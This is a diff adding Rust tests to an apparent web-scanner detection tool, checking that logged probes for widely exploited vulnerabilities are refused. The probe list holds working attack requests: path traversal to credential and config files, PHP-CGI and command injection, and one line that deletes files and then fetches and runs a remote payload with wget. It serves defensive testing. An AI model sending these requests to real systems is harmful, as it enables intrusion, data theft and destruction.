@@ -435,6 +435,81 @@ mod tests {
         );
     }
 
+    /// Probes for vulnerabilities on CISA's list of those exploited in the wild, as scanners
+    /// send them, each from its own client and answered as a site without the product would.
+    const EXPLOIT_PROBES: &[&str] = &[
+        "GET /api/index.php/v1/config/application?public=true HTTP/1.1",
+        "GET /app/rest/users/id:1/tokens/RPC2 HTTP/1.1",
+        "GET /hax?jsp=/app/rest/server;.jsp HTTP/1.1",
+        "POST /webui/logoutconfirm.html?logon_hash=1 HTTP/1.1",
+        "POST /ssl-vpn/hipreport.esp HTTP/1.1",
+        "GET /moveitisapi/moveitisapi.dll?action=m2 HTTP/1.1",
+        "GET /SetupWizard.aspx/anything HTTP/1.1",
+        "GET /oauth/idp/.well-known/openid-configuration HTTP/1.1",
+        "GET /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1",
+        "GET /index.php/.js.map HTTP/1.1",
+        "GET /php/utils/createRemoteAppwebSession.php/watchTowr.js.map HTTP/1.1",
+        "GET /unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css HTTP/1.1",
+        "GET /owa/auth/x.js HTTP/1.1",
+        "GET /api/v1/totp/user-backup-code/../../system/system-information HTTP/1.1",
+        "GET /cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1",
+        "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x) HTTP/1.1",
+        "GET /?unix:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA|http://example.com/ HTTP/1.1",
+        "GET /wp-admin/admin-ajax.php?action=duplicator_download&file=../../wp-config.php HTTP/1.1",
+        "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
+        "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1",
+        "GET /public/plugins/alertlist/../../../../../../../../etc/passwd HTTP/1.1",
+        "GET /console/css/%252e%252e%252fconsole.portal HTTP/1.1",
+        "GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../ HTTP/1.1",
+        "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
+        "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1 HTTP/1.1",
+        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1",
+        "GET /wls-wsat/CoordinatorPortType HTTP/1.1",
+    ];
+
+    #[test]
+    fn probes_for_exploited_vulnerabilities_are_refused() {
+        let log: String = EXPLOIT_PROBES
+            .iter()
+            .enumerate()
+            .map(|(n, request)| {
+                format!(
+                    "192.0.2.{} - - [17/May/2015:10:05:14 +0000] \"{request}\" 404 10 \"-\" \"Mozilla/5.0\"\n",
+                    n + 1
+                )
+            })
+            .collect();
+        let report = replay_text(&log);
+        let refused: std::collections::BTreeSet<String> = report
+            .refusals
+            .iter()
+            .map(|refusal| refusal.client.to_string())
+            .collect();
+        for (n, request) in EXPLOIT_PROBES.iter().enumerate() {
+            let client = format!("192.0.2.{}", n + 1);
+            assert!(refused.contains(&client), "not refused: {request}");
+        }
+    }
+
+    #[test]
+    fn a_product_serving_its_own_endpoints_is_left_alone() {
+        // Entries marked `?`: a site running the product answers them, and its users are fine.
+        let log: String = [
+            "GET /Telerik.Web.UI.WebResource.axd?type=rau HTTP/1.1",
+            "GET /autodiscover/autodiscover.json?Email=a@example.com&Protocol=ActiveSync HTTP/1.1",
+            "GET /oauth/idp/.well-known/openid-configuration HTTP/1.1",
+        ]
+        .iter()
+        .map(|request| {
+            format!(
+                "192.0.2.1 - - [17/May/2015:10:05:14 +0000] \"{request}\" 200 10 \"-\" \"Mozilla/5.0\"\n"
+            )
+        })
+        .collect();
+        let report = replay_text(&log);
+        assert!(report.refusals.is_empty(), "{}", render_text(&report));
+    }
+
     #[test]
     fn a_scanner_is_tarpitted_once_and_not_reported_as_blocked() {
         let line = |second: u32| {
